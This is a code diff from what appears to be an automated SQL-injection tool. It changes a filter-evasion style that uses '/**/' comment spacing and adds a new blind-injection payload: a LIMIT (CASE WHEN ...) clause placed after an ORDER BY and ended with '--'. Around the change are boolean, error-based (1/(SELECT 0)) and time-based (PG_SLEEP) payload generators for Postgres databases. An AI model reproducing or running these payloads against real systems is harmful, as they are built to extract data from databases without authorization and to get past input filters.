@@ -72,7 +72,7 @@ FILTERED = re.compile(r"\b(UNION|SELECT|OR|AND)\b")
 """Words that filters take out."""
 PLAIN = Style(" ", False, False, True)
 QUIET = Style("\n", True, False, False)
-DOUBLED = Style("/**/", False, True, True)
+DOUBLED = Style("/**/", False, True, False)
 
 
 def attack(
@@ -276,7 +276,8 @@ class _Writer:
             yield lambda asked: self.said(f"(CASE WHEN {asked} THEN {self._normal or 'NULL'} ELSE NULL END)")
             yield lambda asked: self.said(f"(CASE WHEN {asked} THEN {self._normal or 'NULL'} ELSE NULL END) DESC")
             yield lambda asked: self.said(f"(CASE WHEN {asked} THEN 1 ELSE 1/(SELECT 0) END)")
-            yield lambda asked: f"{self._normal},{self.said(f'(CASE WHEN {asked} THEN 1 ELSE 1/(SELECT 0) END)')}"
+            # Behind an ORDER BY, where a server leaves out what is the same for all rows.
+            yield lambda asked: f"{self._normal} {self.said(f'LIMIT (CASE WHEN {asked} THEN 9 ELSE 0 END)')} --"
 
     def sleeps(self) -> Iterator[Callable[[Any], str]]:
         yield lambda seconds: self.statement(f"SELECT PG_SLEEP({seconds})")
